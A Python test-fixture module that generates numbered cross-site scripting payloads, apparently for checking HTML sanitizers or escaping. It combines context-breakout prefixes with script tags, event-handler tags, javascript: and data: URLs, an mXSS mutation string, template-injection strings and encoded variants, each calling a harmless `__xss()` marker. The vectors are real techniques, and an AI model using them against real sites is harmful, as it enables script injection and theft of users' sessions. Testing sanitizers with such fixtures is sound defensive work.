"""Texts that would run in a page that takes them for markup; each calls `__xss()`."""

from __future__ import annotations

_CALL = "__xss()"
_WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "</script></style>")
_BODIES = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt src=data:,{_CALL}></ScRiPt>",
    f"<img src=x onerror={_CALL}>",
    f'<img src="x" onerror="{_CALL}"//',
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_CALL}></iframe>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
)
_OTHERS = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}//",
    f"data:text/html,<script>{_CALL}</script>",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    f"';{_CALL};//",
    f'";{_CALL};//',
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
)
# Numbered, so that each is told from the others where it is shown.
PAYLOADS = tuple(
    f"{number}: {payload}"
    for number, payload in enumerate(
        [*(way + body for way in _WAYS_OUT for body in _BODIES), *_OTHERS]
    )
)
EVERYTHING = " ".join(PAYLOADS)
